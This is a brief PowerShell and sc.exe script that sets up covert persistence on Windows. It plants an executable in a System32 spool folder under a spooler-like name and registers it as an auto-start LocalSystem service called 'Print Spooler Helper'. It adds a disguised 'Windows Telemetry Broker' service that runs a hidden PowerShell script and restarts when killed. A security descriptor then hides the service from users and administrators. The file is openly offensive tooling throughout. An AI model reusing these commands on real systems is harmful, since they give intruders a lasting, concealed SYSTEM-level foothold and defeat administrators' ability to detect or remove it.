# Service-based persistence: survives reboots and runs as LocalSystem.
$binDir = 'C:\Windows\System32\spool\drivers\color'
$exe = Join-Path -Path $binDir -ChildPath 'spoolhlp.exe'

Copy-Item -Path "$PSScriptRoot\agent.exe" -Destination $exe -Force

$svcParams = @{
    Name           = 'SpoolerHelper'
    BinaryPathName = "`"$exe`" -k netsvcs"
    DisplayName    = 'Print Spooler Helper'
    Description    = 'Provides helper services for the print spooler.'
    StartupType    = 'Automatic'
}
New-Service @svcParams | Out-Null
Start-Service -Name 'SpoolerHelper'

# belt and braces with sc.exe, and recovery so it restarts when killed
sc.exe create WinTelemetry binPath= "cmd.exe /c powershell.exe -nop -w hidden -File C:\Windows\Temp\t.ps1" start= auto obj= LocalSystem
sc.exe failure WinTelemetry reset= 0 actions= restart/60000/restart/60000/restart/60000
sc.exe description WinTelemetry "Windows Telemetry Broker"

# hide it from casual sc query / services.msc users
sc.exe sdset SpoolerHelper 'D:(D;;DCLCWPDTSD;;;IU)(D;;DCLCWPDTSD;;;SU)(D;;DCLCWPDTSD;;;BA)(A;;CCLCSWLOCRRC;;;IU)(A;;CCLCSWLOCRRC;;;SU)(A;;CCLCSWRPWPDTLOCRRC;;;SY)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)S:(AU;FA;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;WD)'
